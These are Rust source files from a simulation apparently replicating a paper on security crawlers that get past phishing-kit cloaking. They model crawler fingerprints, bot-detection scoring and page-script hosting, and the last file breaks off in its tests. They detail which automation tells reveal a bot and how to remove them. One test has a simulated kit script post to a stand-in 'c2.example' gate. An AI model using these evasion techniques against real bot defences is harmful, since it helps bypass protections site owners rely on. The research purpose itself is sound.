    Kangooroo,
    /// The AIL project's Playwright-based capture system: hides the basics
    /// but leaks CDP artifacts and Playwright's header ordering.
    Lacus,
    /// Puppeteer with `puppeteer-extra-plugin-stealth`: masks
    /// `navigator.webdriver` and headless markers, but runs headless with
    /// request interception (the caching-header tell) and CDP leakage.
    PuppeteerStealth,
    /// Selenium with the `selenium-stealth` package: chromedriver `cdc_`
    /// globals remain.
    SeleniumStealth,
    /// `undetected_chromedriver` in its default non-headless mode: patched
    /// driver (no `cdc_`), real Chrome TLS, clean headers — but CDP
    /// `Runtime` leakage and untrusted synthetic events remain.
    UndetectedChromedriver,
    /// `undetected_chromedriver` forced headless — the Table I footnote:
    /// it passes BotD *only* in non-headless mode.
    UndetectedChromedriverHeadless,
    /// `nodriver`: CDP-level automation without chromedriver or
    /// `Runtime.enable`; trusted input events.
    Nodriver,
    /// `Selenium-Driverless`: same approach as nodriver.
    SeleniumDriverless,
    /// The paper's crawler: real non-headless Chrome on physical hardware,
    /// AutomationControlled disabled, no request interception, trusted
    /// synthetic mouse movement, 4G mobile egress.
    NotABot,
    /// Ablation: NotABot with the AutomationControlled flag left on.
    NotABotWebdriverVisible,
    /// Ablation: NotABot with request interception enabled (the
    /// caching-header anomaly back in place).
    NotABotWithInterception,
    /// Ablation: NotABot without trusted synthetic input.
    NotABotUntrustedEvents,
    /// Ablation: NotABot egressing from a datacenter instead of 4G.
    NotABotDatacenterIp,
    /// Ablation: NotABot headless (UA marker visible).
    NotABotHeadless,
}

impl CrawlerProfile {
    /// The seven open-source baselines plus NotABot — Table I's columns.
    pub fn table1() -> [CrawlerProfile; 8] {
        [
            CrawlerProfile::Kangooroo,
            CrawlerProfile::Lacus,
            CrawlerProfile::PuppeteerStealth,
            CrawlerProfile::SeleniumStealth,
            CrawlerProfile::UndetectedChromedriver,
            CrawlerProfile::Nodriver,
            CrawlerProfile::SeleniumDriverless,
            CrawlerProfile::NotABot,
        ]
    }

    /// NotABot single-feature knock-outs (the A1 ablation study).
    pub fn ablations() -> [CrawlerProfile; 5] {
        [
            CrawlerProfile::NotABotWebdriverVisible,
            CrawlerProfile::NotABotWithInterception,
            CrawlerProfile::NotABotUntrustedEvents,
            CrawlerProfile::NotABotDatacenterIp,
            CrawlerProfile::NotABotHeadless,
        ]
    }

    /// Human-readable name as the paper prints it.
    pub fn name(self) -> &'static str {
        match self {
            CrawlerProfile::Kangooroo => "Kangooroo",
            CrawlerProfile::Lacus => "Lacus",
            CrawlerProfile::PuppeteerStealth => "Puppeteer + stealth plugin",
            CrawlerProfile::SeleniumStealth => "Selenium + stealth plugin",
            CrawlerProfile::UndetectedChromedriver => "undetected_chromedriver",
            CrawlerProfile::UndetectedChromedriverHeadless => {
                "undetected_chromedriver (headless)"
            }
            CrawlerProfile::Nodriver => "Nodriver",
            CrawlerProfile::SeleniumDriverless => "Selenium-Driverless",
            CrawlerProfile::NotABot => "NotABot",
            CrawlerProfile::NotABotWebdriverVisible => "NotABot w/ webdriver flag",
            CrawlerProfile::NotABotWithInterception => "NotABot w/ request interception",
            CrawlerProfile::NotABotUntrustedEvents => "NotABot w/o trusted events",
            CrawlerProfile::NotABotDatacenterIp => "NotABot on datacenter IP",
            CrawlerProfile::NotABotHeadless => "NotABot headless",
        }
    }

    /// Longest meta-refresh delay (seconds) this configuration waits out
    /// before giving up on a reloading page. The paper benchmarked every
    /// crawler "within a consistent environment" (§VII), so all the Table I
    /// profiles and ablations share NotABot's 60 s wait budget; adaptive
    /// timing arms override it per-visit via [`crate::Browser::with_patience`].
    pub fn patience_secs(self) -> u32 {
        match self {
            CrawlerProfile::Kangooroo
            | CrawlerProfile::Lacus
            | CrawlerProfile::PuppeteerStealth
            | CrawlerProfile::SeleniumStealth
            | CrawlerProfile::UndetectedChromedriver
            | CrawlerProfile::UndetectedChromedriverHeadless
            | CrawlerProfile::Nodriver
            | CrawlerProfile::SeleniumDriverless
            | CrawlerProfile::NotABot
            | CrawlerProfile::NotABotWebdriverVisible
            | CrawlerProfile::NotABotWithInterception
            | CrawlerProfile::NotABotUntrustedEvents
            | CrawlerProfile::NotABotDatacenterIp
            | CrawlerProfile::NotABotHeadless => 60,
        }
    }

    /// The fingerprint this configuration presents.
    pub fn fingerprint(self) -> BrowserFingerprint {
        let chrome_ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
                         (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36";
        let headless_ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 \
                           (KHTML, like Gecko) HeadlessChrome/121.0.0.0 Safari/537.36";
        // The paper benchmarked every crawler "within a consistent
        // environment, including identical hardware and network conditions"
        // (§VII): the physical workstation and 4G egress are shared, and
        // only software tells differ. The NotABotDatacenterIp ablation
        // explores what changes when that is not true.
        let base = BrowserFingerprint {
            user_agent: chrome_ua.to_string(),
            webdriver_visible: false,
            ua_headless_marker: false,
            cdc_artifacts: false,
            runtime_domain_leak: true,
            cache_header_anomaly: false,
            header_order_anomaly: false,
            tls: TlsFingerprint::ChromeCdp,
            trusted_events: false,
            mouse_movement: false,
            physical_timing: true,
            ip_class: IpClass::MobileCarrier,
            language: "en-US".to_string(),
            timezone: "Europe/Paris".to_string(),
            screen: (1920, 1080),
        };
        match self {
            CrawlerProfile::Kangooroo => BrowserFingerprint {
                user_agent: headless_ua.to_string(),
                webdriver_visible: true,
                ua_headless_marker: true,
                header_order_anomaly: true,
                tls: TlsFingerprint::HeadlessLegacy,
                ..base
            },
            CrawlerProfile::Lacus => BrowserFingerprint {
                // Playwright masks webdriver/headless basics but keeps its
                // own header ordering.
                header_order_anomaly: true,
                ..base
            },
            CrawlerProfile::PuppeteerStealth => BrowserFingerprint {
                cache_header_anomaly: true,
                ..base
            },
            CrawlerProfile::SeleniumStealth => BrowserFingerprint {
                cdc_artifacts: true,
                ..base
            },
            CrawlerProfile::UndetectedChromedriver => BrowserFingerprint {
                tls: TlsFingerprint::ChromeReal,
                ..base
            },
            CrawlerProfile::UndetectedChromedriverHeadless => BrowserFingerprint {
                user_agent: headless_ua.to_string(),
                ua_headless_marker: true,
                tls: TlsFingerprint::ChromeReal,
                ..base
            },
            CrawlerProfile::Nodriver | CrawlerProfile::SeleniumDriverless => BrowserFingerprint {
                runtime_domain_leak: false,
                tls: TlsFingerprint::ChromeReal,
                trusted_events: true,
                mouse_movement: true,
                ..base
            },
            CrawlerProfile::NotABot => BrowserFingerprint {
                runtime_domain_leak: false,
                tls: TlsFingerprint::ChromeReal,
                trusted_events: true,
                mouse_movement: true,
                ..base
            },
            CrawlerProfile::NotABotWebdriverVisible => BrowserFingerprint {
                webdriver_visible: true,
                ..CrawlerProfile::NotABot.fingerprint()
            },
            CrawlerProfile::NotABotWithInterception => BrowserFingerprint {
                cache_header_anomaly: true,
                ..CrawlerProfile::NotABot.fingerprint()
            },
            CrawlerProfile::NotABotUntrustedEvents => BrowserFingerprint {
                trusted_events: false,
                mouse_movement: false,
                ..CrawlerProfile::NotABot.fingerprint()
            },
            CrawlerProfile::NotABotDatacenterIp => BrowserFingerprint {
                ip_class: IpClass::Datacenter,
                ..CrawlerProfile::NotABot.fingerprint()
            },
            CrawlerProfile::NotABotHeadless => BrowserFingerprint {
                ua_headless_marker: true,
                ..CrawlerProfile::NotABot.fingerprint()
            },
        }
    }
}

impl fmt::Display for CrawlerProfile {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn notabot_matches_paper_description() {
        let f = CrawlerProfile::NotABot.fingerprint();
        assert!(!f.webdriver_visible, "AutomationControlled disabled");
        assert!(!f.cache_header_anomaly, "no request interception");
        assert!(f.trusted_events, "CDP input is trusted");
        assert!(f.mouse_movement, "fake mouse movements");
        assert!(f.physical_timing, "physical Dell workstation");
        assert_eq!(f.ip_class, IpClass::MobileCarrier, "4G modem egress");
        assert!(!f.ua_headless_marker, "non-headless Chrome");
    }

    #[test]
    fn kangooroo_is_naive() {
        let f = CrawlerProfile::Kangooroo.fingerprint();
        assert!(f.webdriver_visible);
        assert!(f.ua_headless_marker);
        assert!(!f.tls.looks_like_chrome());
    }

    #[test]
    fn stealth_plugin_hides_webdriver_but_keeps_interception_tell() {
        let f = CrawlerProfile::PuppeteerStealth.fingerprint();
        assert!(!f.webdriver_visible);
        assert!(f.cache_header_anomaly);
        assert!(f.runtime_domain_leak);
    }

    #[test]
    fn selenium_stealth_keeps_cdc() {
        assert!(CrawlerProfile::SeleniumStealth.fingerprint().cdc_artifacts);
    }

    #[test]
    fn undetected_chromedriver_headless_variant_differs_only_in_headlessness() {
        let normal = CrawlerProfile::UndetectedChromedriver.fingerprint();
        let headless = CrawlerProfile::UndetectedChromedriverHeadless.fingerprint();
        assert!(!normal.ua_headless_marker);
        assert!(headless.ua_headless_marker);
        assert_eq!(normal.tls, headless.tls);
    }

    #[test]
    fn nodriver_and_driverless_share_approach() {
        let a = CrawlerProfile::Nodriver.fingerprint();
        let b = CrawlerProfile::SeleniumDriverless.fingerprint();
        assert_eq!(a, b);
        assert!(!a.runtime_domain_leak);
        assert!(a.trusted_events);
    }

    #[test]
    fn ablations_change_exactly_one_axis() {
        let base = CrawlerProfile::NotABot.fingerprint();
        let wd = CrawlerProfile::NotABotWebdriverVisible.fingerprint();
        assert!(wd.webdriver_visible && !base.webdriver_visible);
        assert_eq!(wd.ip_class, base.ip_class);

        let dc = CrawlerProfile::NotABotDatacenterIp.fingerprint();
        assert_eq!(dc.ip_class, IpClass::Datacenter);
        assert_eq!(dc.trusted_events, base.trusted_events);
    }

    #[test]
    fn table1_has_eight_columns() {
        let names: Vec<&str> = CrawlerProfile::table1().iter().map(|p| p.name()).collect();
        assert_eq!(names.len(), 8);
        assert_eq!(names[7], "NotABot");
        assert_eq!(names[0], "Kangooroo");
    }
}
