//! The browser's [`cb_script::Host`] implementation: what page scripts see
//! when they run inside a [`crate::Browser`].
//!
//! Environment reads are answered from the crawler's
//! [`crate::BrowserFingerprint`]; `fetch` goes out through the simulated
//! internet (with the attestation header attached, like every browser
//! request); `location.href` assignments and `document.write` are recorded
//! for the engine to act on.

use crate::fingerprint::{BrowserFingerprint, ATTESTATION_HEADER};
use cb_netsim::{HttpRequest, Internet, Url, FAULT_HEADER};
use cb_script::{Host, ScriptError, Value};
use cb_sim::SimDuration;

/// Per-page script host.
pub struct PageHost<'a> {
    net: &'a Internet,
    fingerprint: &'a BrowserFingerprint,
    page_url: Url,
    /// `document.write` payloads in order.
    pub writes: Vec<String>,
    /// Console output (recorded even after hijack, flagged below).
    pub console: Vec<String>,
    /// `true` once a script overwrote a console method (§V-C2 b).
    pub console_hijacked: bool,
    /// URLs assigned to `location.href`.
    pub navigations: Vec<String>,
    /// `(url, body, response_status)` of script-initiated fetches.
    pub fetches: Vec<(String, String, u16)>,
    /// `debugger;` executions.
    pub debugger_hits: usize,
    /// Timer delays requested (ms).
    pub timer_delays: Vec<f64>,
    /// Retry index of the enclosing visit, stamped on script fetches so
    /// the fault injector treats them consistently with page loads.
    pub attempt: u32,
    /// Transient-fault provenance notes from script fetches.
    pub transient_failures: Vec<String>,
    /// Simulated time lost to faulted script fetches.
    pub fault_latency: SimDuration,
    clock_ms: f64,
}

impl<'a> PageHost<'a> {
    /// A host for scripts on `page_url` running in a browser with
    /// `fingerprint`.
    pub fn new(net: &'a Internet, fingerprint: &'a BrowserFingerprint, page_url: Url) -> Self {
        PageHost {
            net,
            fingerprint,
            page_url,
            writes: Vec::new(),
            console: Vec::new(),
            console_hijacked: false,
            navigations: Vec::new(),
            fetches: Vec::new(),
            debugger_hits: 0,
            timer_delays: Vec::new(),
            attempt: 0,
            transient_failures: Vec::new(),
            fault_latency: SimDuration::ZERO,
            clock_ms: 1_000_000.0,
        }
    }
}

const GLOBALS: &[&str] = &[
    "navigator", "console", "document", "window", "location", "screen", "Intl", "Date",
];

impl Host for PageHost<'_> {
    fn get_prop(&mut self, object: &str, prop: &str) -> Result<Value, ScriptError> {
        let f = self.fingerprint;
        Ok(match (object, prop) {
            ("navigator", "userAgent") => Value::from(f.user_agent.as_str()),
            ("navigator", "webdriver") => Value::Bool(f.webdriver_visible),
            ("navigator", "language") | ("navigator", "userLanguage") => {
                Value::from(f.language.as_str())
            }
            ("navigator", "plugins") => {
                Value::Num(if f.ua_headless_marker { 0.0 } else { 3.0 })
            }
            ("screen", "width") => Value::Num(f.screen.0 as f64),
            ("screen", "height") => Value::Num(f.screen.1 as f64),
            ("intl", "timeZone") => Value::from(f.timezone.as_str()),
            ("location", "href") => Value::from(self.page_url.to_string()),
            ("location", "host") => Value::from(self.page_url.host.as_str()),
            ("location", "pathname") => Value::from(self.page_url.path.as_str()),
            ("location", "search") => {
                if self.page_url.query.is_empty() {
                    Value::from("")
                } else {
                    Value::from(format!("?{}", self.page_url.query))
                }
            }
            ("document", "referrer") => Value::from(""),
            // chromedriver artifact probe: window.cdc_… properties
            ("window", p) if p.starts_with("cdc_") => {
                if f.cdc_artifacts {
                    Value::Ref("cdcArtifact".to_string())
                } else {
                    Value::Null
                }
            }
            _ => Value::Null,
        })
    }

    fn set_prop(&mut self, object: &str, prop: &str, value: Value) -> Result<(), ScriptError> {
        match (object, prop) {
            ("location", "href") => self.navigations.push(value.as_str()),
            ("console", _) => self.console_hijacked = true,
            _ => {}
        }
        Ok(())
    }

    fn call_method(
        &mut self,
        object: &str,
        method: &str,
        args: &[Value],
    ) -> Result<Value, ScriptError> {
        match (object, method) {
            ("console", _) => {
                self.console.push(
                    args.iter().map(Value::as_str).collect::<Vec<_>>().join(" "),
                );
                Ok(Value::Null)
            }
            ("document", "write") => {
                self.writes
                    .push(args.first().map(Value::as_str).unwrap_or_default());
                Ok(Value::Null)
            }
            ("document", "addEventListener") | ("window", "addEventListener") => {
                // Events fire only in browsers with input generation; the
                // trusted flag matters for fingerprinting scripts reading
                // event.isTrusted, surfaced through get_prop on demand.
                Ok(Value::Null)
            }
            ("document", "getElementById") | ("document", "querySelector") => Ok(Value::Ref(
                format!("element:{}", args.first().map(Value::as_str).unwrap_or_default()),
            )),
            ("Intl", "DateTimeFormat") => Ok(Value::Ref("intlDTF".to_string())),
            ("intlDTF", "resolvedOptions") => Ok(Value::Ref("intl".to_string())),
            ("Date", "now") => {
                // Each observation costs 1ms of simulated time; a debugger
                // pause would cost thousands — our crawler never pauses, so
                // anti-debug timing probes read "no debugger".
                self.clock_ms += 1.0;
                Ok(Value::Num(self.clock_ms))
            }
            (obj, _) if obj.starts_with("element:") => Ok(Value::Null),
            (obj, m) => Err(ScriptError::UnknownFunction(format!("{obj}.{m}"))),
        }
    }

    fn call_global(&mut self, func: &str, args: &[Value]) -> Result<Value, ScriptError> {
        match func {
            "fetch" => {
                let raw = args.first().map(Value::as_str).unwrap_or_default();
                let body = args.get(1).map(Value::as_str).unwrap_or_default();
                let absolute = resolve_url(&self.page_url, &raw);
                let Ok(url) = Url::parse(&absolute) else {
                    self.fetches.push((raw, body, 0));
                    return Ok(Value::Str(String::new()));
                };
                let mut req = HttpRequest::post(&url.to_string(), body.as_bytes());
                req.set_header("User-Agent", &self.fingerprint.user_agent);
                req.set_header(
                    ATTESTATION_HEADER,
                    &self.fingerprint.attestation().to_header_value(),
                );
                // Same deterministic egress addressing as navigations: the
                // address exfil endpoints echo back must not depend on how
                // many requests other scans made first.
                req.client_ip = self
                    .fingerprint
                    .ip_class
                    .egress_ip(&url.to_string(), self.attempt);
                req.tls = self.fingerprint.tls;
                req.attempt = self.attempt;
                match self.net.try_request(req) {
                    Ok(resp) => {
                        if let Some(kind) = resp.header(FAULT_HEADER) {
                            self.transient_failures.push(format!("fetch {url}: {kind}"));
                        }
                        self.fetches.push((url.to_string(), body, resp.status));
                        Ok(Value::Str(resp.body_text()))
                    }
                    Err(err) => {
                        self.fault_latency = self.fault_latency + err.latency;
                        self.transient_failures.push(format!("fetch {url}: {err}"));
                        self.fetches.push((url.to_string(), body, 0));
                        Ok(Value::Str(String::new()))
                    }
                }
            }
            "atob" | "btoa" | "encodeURIComponent" | "parseInt" | "Number" | "String"
            | "isEmailValid" => {
                // Shared pure helpers: delegate to the recording host's
                // implementations via a throwaway instance.
                let mut pure = cb_script::hosts::RecordingHost::new();
                pure.call_global(func, args)
            }
            "setTimeout" | "setInterval" | "sleep" => {
                let delay = args.iter().rev().find_map(Value::as_num).unwrap_or(0.0);
                self.timer_delays.push(delay);
                Ok(Value::Num(self.timer_delays.len() as f64))
            }
            "redirect" => {
                self.navigations
                    .push(args.first().map(Value::as_str).unwrap_or_default());
                Ok(Value::Null)
            }
            other => Err(ScriptError::UnknownFunction(other.to_string())),
        }
    }

    fn global(&mut self, name: &str) -> Option<Value> {
        GLOBALS.contains(&name).then(|| Value::Ref(name.to_string()))
    }

    fn debugger_hit(&mut self) {
        self.debugger_hits += 1;
    }
}

/// Resolve `href` against `base` (absolute URLs pass through; `/`-rooted
/// and relative paths are joined).
pub fn resolve_url(base: &Url, href: &str) -> String {
    let lower = href.to_ascii_lowercase();
    if lower.starts_with("http://") || lower.starts_with("https://") {
        return href.to_string();
    }
    if let Some(rest) = href.strip_prefix("//") {
        return format!("{}://{}", base.scheme, rest);
    }
    // a query-only href replaces the query but keeps the full base path
    // (the "?" form gate pages use must not drop the access token segment)
    if href.starts_with('?') {
        return format!("{}://{}{}{}", base.scheme, base.host, base.path, href);
    }
    if href.starts_with('/') {
        return format!("{}://{}{}", base.scheme, base.host, href);
    }
    // relative to the base path's directory
    let dir = match base.path.rfind('/') {
        Some(i) => &base.path[..=i],
        None => "/",
    };
    format!("{}://{}{}{}", base.scheme, base.host, dir, href)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profiles::CrawlerProfile;
    use cb_script::{run, Script};
    use cb_sim::SimTime;

    fn page_url() -> Url {
        Url::parse("https://phish.example/dir/page?tok=abc").unwrap()
    }

    #[test]
    fn navigator_reflects_fingerprint() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        let f = CrawlerProfile::Kangooroo.fingerprint();
        let mut host = PageHost::new(&net, &f, page_url());
        let s = Script::parse(
            "console.log(navigator.webdriver); console.log(navigator.userAgent);",
        )
        .unwrap();
        run(&s, &mut host).unwrap();
        assert_eq!(host.console[0], "true");
        assert!(host.console[1].contains("HeadlessChrome"));
    }

    #[test]
    fn location_parts_visible_to_scripts() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        let f = CrawlerProfile::NotABot.fingerprint();
        let mut host = PageHost::new(&net, &f, page_url());
        let s = Script::parse(
            "console.log(location.host); console.log(location.search);",
        )
        .unwrap();
        run(&s, &mut host).unwrap();
        assert_eq!(host.console, ["phish.example", "?tok=abc"]);
    }

    #[test]
    fn fetch_goes_through_the_internet() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        net.register_domain("c2.example", "REG");
        net.host("c2.example", |_req: &HttpRequest, _ctx: &cb_netsim::NetContext<'_>| {
            cb_netsim::HttpResponse::ok("text/plain", b"allow".to_vec())
        });
        let f = CrawlerProfile::NotABot.fingerprint();
        let mut host = PageHost::new(&net, &f, page_url());
        let s = Script::parse(
            "var r = fetch('https://c2.example/gate', 'v=1'); if (r == 'allow') { document.write('GO'); }",
        )
        .unwrap();
        run(&s, &mut host).unwrap();
        assert_eq!(host.writes, ["GO"]);
        assert_eq!(host.fetches[0].2, 200);
    }

    #[test]
    fn relative_fetch_resolves_against_page() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        let f = CrawlerProfile::NotABot.fingerprint();
        let mut host = PageHost::new(&net, &f, page_url());
        let s = Script::parse("fetch('check.php', 'x');").unwrap();
        run(&s, &mut host).unwrap();
        assert_eq!(host.fetches[0].0, "https://phish.example/dir/check.php");
        // page domain not registered -> unreachable status 0
        assert_eq!(host.fetches[0].2, 0);
    }

    #[test]
    fn console_hijack_detection() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        let f = CrawlerProfile::NotABot.fingerprint();
        let mut host = PageHost::new(&net, &f, page_url());
        let s = Script::parse("console.log = null; console.warn = null;").unwrap();
        run(&s, &mut host).unwrap();
        assert!(host.console_hijacked);
    }

    #[test]
    fn anti_debug_timer_sees_no_pause() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        let f = CrawlerProfile::NotABot.fingerprint();
        let mut host = PageHost::new(&net, &f, page_url());
        let s = Script::parse(
            "var t0 = Date.now(); debugger; var t1 = Date.now(); if (t1 - t0 < 100) { document.write('clean'); }",
        )
        .unwrap();
        run(&s, &mut host).unwrap();
        assert_eq!(host.writes, ["clean"]);
        assert_eq!(host.debugger_hits, 1);
    }

    #[test]
    fn url_resolution() {
        let base = Url::parse("https://h.example/a/b/page").unwrap();
        assert_eq!(resolve_url(&base, "https://x.example/q"), "https://x.example/q");
        assert_eq!(resolve_url(&base, "HTTPS://x.example/q"), "HTTPS://x.example/q");
        assert_eq!(resolve_url(&base, "/root"), "https://h.example/root");
        assert_eq!(resolve_url(&base, "sibling"), "https://h.example/a/b/sibling");
        assert_eq!(resolve_url(&base, "//cdn.example/r"), "https://cdn.example/r");
        // query-only navigation keeps the tokenized path
        assert_eq!(
            resolve_url(&base, "?otp=1"),
            "https://h.example/a/b/page?otp=1"
        );
    }

    #[test]
    fn timezone_gate_example() {
        let net = Internet::new(SimTime::from_ymd(2024, 1, 1));
        let f = CrawlerProfile::NotABot.fingerprint();
        let mut host = PageHost::new(&net, &f, page_url());
        let s = Script::parse(
            r#"
            var tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
            if (tz == 'Europe/Paris' && navigator.language == 'en-US') {
                document.write('targeted visitor');
            } else {
                document.write('benign');
            }
            "#,
        )
        .unwrap();
        run(&s, &mut host).unwrap();
        assert_eq!(host.writes, ["targeted visitor"]);
    }
}
