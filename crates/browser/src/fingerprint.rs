//! The browser fingerprint surface and the attestation challenge scripts
//! measure.
//!
//! Every signal here is one the paper names: `navigator.webdriver` (§IV-C,
//! MDN-documented automation flag), headless UA markers, chromedriver
//! `cdc_` globals, CDP `Runtime.enable` side effects, the
//! request-interception caching-header anomaly NotABot's authors found and
//! removed, TLS fingerprints, `isTrusted` events, mouse behaviour, VM
//! timing consistency, and the egress IP class (4G modem vs datacenter).

use cb_netsim::{IpClass, TlsFingerprint};
use serde::{Deserialize, Serialize};

/// The complete observable surface of one browser/crawler configuration.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct BrowserFingerprint {
    /// The User-Agent string presented in headers and `navigator.userAgent`.
    pub user_agent: String,
    /// `navigator.webdriver` reads `true` (the AutomationControlled flag
    /// NotABot disables).
    pub webdriver_visible: bool,
    /// The UA (or JS surface) carries a `HeadlessChrome` marker.
    pub ua_headless_marker: bool,
    /// Chromedriver `cdc_…` window globals are present.
    pub cdc_artifacts: bool,
    /// CDP `Runtime.enable` side effects are detectable (serialization
    /// artifacts advanced challenges probe for).
    pub runtime_domain_leak: bool,
    /// Request interception left `Cache-Control: no-cache` / `Pragma`
    /// anomalies on subresource requests — the tell the paper discovered in
    /// early NotABot builds and engineered away.
    pub cache_header_anomaly: bool,
    /// Non-browser header ordering (library/driver default header sets).
    pub header_order_anomaly: bool,
    /// TLS client stack.
    pub tls: TlsFingerprint,
    /// Synthetic input events carry `isTrusted: true` (CDP-level input as
    /// NotABot generates) rather than `false` (JS-dispatched events).
    pub trusted_events: bool,
    /// The crawler generates human-like mouse movement.
    pub mouse_movement: bool,
    /// Timing behaviour is consistent with physical hardware (the paper
    /// runs NotABot on a physical Dell workstation to defeat VM timing red
    /// pills).
    pub physical_timing: bool,
    /// Egress network class.
    pub ip_class: IpClass,
    /// `navigator.language`.
    pub language: String,
    /// IANA timezone exposed through `Intl`.
    pub timezone: String,
    /// Screen dimensions.
    pub screen: (u32, u32),
}

impl BrowserFingerprint {
    /// The fingerprint of a human victim's browser: real Chrome on a
    /// corporate laptop or personal phone. This is what detectors calibrate
    /// "pass" against.
    pub fn human_victim() -> BrowserFingerprint {
        BrowserFingerprint {
            user_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
                         (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36"
                .to_string(),
            webdriver_visible: false,
            ua_headless_marker: false,
            cdc_artifacts: false,
            runtime_domain_leak: false,
            cache_header_anomaly: false,
            header_order_anomaly: false,
            tls: TlsFingerprint::ChromeReal,
            trusted_events: true,
            mouse_movement: true,
            physical_timing: true,
            ip_class: IpClass::Residential,
            language: "en-US".to_string(),
            timezone: "Europe/Paris".to_string(),
            screen: (1920, 1080),
        }
    }

    /// The attestation a faithful challenge script would assemble from this
    /// fingerprint (see `DESIGN.md` §4 — the substitution for client-side
    /// challenge execution).
    pub fn attestation(&self) -> ChallengeReport {
        ChallengeReport {
            user_agent: self.user_agent.clone(),
            webdriver_visible: self.webdriver_visible,
            ua_headless_marker: self.ua_headless_marker,
            cdc_artifacts: self.cdc_artifacts,
            runtime_domain_leak: self.runtime_domain_leak,
            cache_header_anomaly: self.cache_header_anomaly,
            header_order_anomaly: self.header_order_anomaly,
            tls: self.tls,
            trusted_events: self.trusted_events,
            mouse_movement: self.mouse_movement,
            physical_timing: self.physical_timing,
            ip_class: self.ip_class,
        }
    }
}

/// What challenge JavaScript reports back to a bot-detection service: the
/// detection-relevant projection of the fingerprint, carried on requests as
/// the `X-Client-Attestation` header (JSON).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ChallengeReport {
    /// Claimed User-Agent.
    pub user_agent: String,
    /// `navigator.webdriver`.
    pub webdriver_visible: bool,
    /// Headless marker seen.
    pub ua_headless_marker: bool,
    /// Chromedriver globals seen.
    pub cdc_artifacts: bool,
    /// CDP Runtime side effects seen.
    pub runtime_domain_leak: bool,
    /// Cache header anomaly seen on subresources.
    pub cache_header_anomaly: bool,
    /// Header-order anomaly.
    pub header_order_anomaly: bool,
    /// TLS stack.
    pub tls: TlsFingerprint,
    /// Input events trusted.
    pub trusted_events: bool,
    /// Mouse movement observed.
    pub mouse_movement: bool,
    /// Hardware-consistent timing.
    pub physical_timing: bool,
    /// Source address class.
    pub ip_class: IpClass,
}

/// Header name carrying the serialized attestation.
pub const ATTESTATION_HEADER: &str = "X-Client-Attestation";

impl ChallengeReport {
    /// Serialize for the attestation header.
    pub fn to_header_value(&self) -> String {
        serde_json::to_string(self).expect("report serializes")
    }

    /// Parse from an attestation header value.
    pub fn from_header_value(s: &str) -> Option<ChallengeReport> {
        serde_json::from_str(s).ok()
    }

    /// Extract the attestation from a request, when present.
    pub fn from_request(req: &cb_netsim::HttpRequest) -> Option<ChallengeReport> {
        req.header(ATTESTATION_HEADER).and_then(Self::from_header_value)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn human_fingerprint_is_clean() {
        let h = BrowserFingerprint::human_victim();
        assert!(!h.webdriver_visible);
        assert!(!h.cdc_artifacts);
        assert!(h.trusted_events);
        assert!(h.tls.looks_like_chrome());
        assert_eq!(h.ip_class, IpClass::Residential);
    }

    #[test]
    fn attestation_mirrors_fingerprint() {
        let mut f = BrowserFingerprint::human_victim();
        f.webdriver_visible = true;
        f.ip_class = IpClass::Datacenter;
        let a = f.attestation();
        assert!(a.webdriver_visible);
        assert_eq!(a.ip_class, IpClass::Datacenter);
        assert_eq!(a.user_agent, f.user_agent);
    }

    #[test]
    fn header_round_trip() {
        let a = BrowserFingerprint::human_victim().attestation();
        let parsed = ChallengeReport::from_header_value(&a.to_header_value()).unwrap();
        assert_eq!(a, parsed);
        assert_eq!(ChallengeReport::from_header_value("garbage"), None);
    }

    #[test]
    fn from_request_reads_header() {
        let a = BrowserFingerprint::human_victim().attestation();
        let mut req = cb_netsim::HttpRequest::get("https://x.example/");
        req.set_header(ATTESTATION_HEADER, &a.to_header_value());
        assert_eq!(ChallengeReport::from_request(&req), Some(a));
        let bare = cb_netsim::HttpRequest::get("https://x.example/");
        assert_eq!(ChallengeReport::from_request(&bare), None);
    }
}
