//! Google reCAPTCHA v3: invisible, score-based verification.
//!
//! §V-C2(b): kits run reCAPTCHA v3 *in the background after* Turnstile,
//! "thereby preventing the need for victims to interact with two
//! CAPTCHA-like solutions consecutively". v3 returns a score in `[0, 1]`
//! (1.0 = very likely human) with a site-chosen acceptance threshold.

use crate::Detector;
use cb_browser::ChallengeReport;

/// The invisible scorer.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ReCaptchaV3 {
    /// Minimum accepted score (Google's default guidance is 0.5).
    pub threshold: f64,
}

impl Default for ReCaptchaV3 {
    fn default() -> Self {
        ReCaptchaV3 { threshold: 0.5 }
    }
}

impl ReCaptchaV3 {
    /// The human-likelihood score for a client.
    pub fn score(&self, r: &ChallengeReport) -> f64 {
        let mut score = 1.0;
        if r.webdriver_visible {
            score -= 0.5;
        }
        if r.ua_headless_marker {
            score -= 0.4;
        }
        if r.cdc_artifacts {
            score -= 0.4;
        }
        if r.runtime_domain_leak {
            score -= 0.2;
        }
        if !r.trusted_events {
            score -= 0.2;
        }
        if !r.mouse_movement {
            score -= 0.1;
        }
        score -= r.ip_class.reputation_penalty() as f64 / 400.0;
        score.clamp(0.0, 1.0)
    }
}

impl Detector for ReCaptchaV3 {
    fn name(&self) -> &'static str {
        "reCAPTCHA v3"
    }

    fn evaluate(&self, r: &ChallengeReport) -> crate::Verdict {
        let score = self.score(r);
        crate::Verdict {
            human: score >= self.threshold,
            score: ((1.0 - score) * 100.0) as u32,
            signals: vec![format!("recaptcha score {score:.2}")],
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
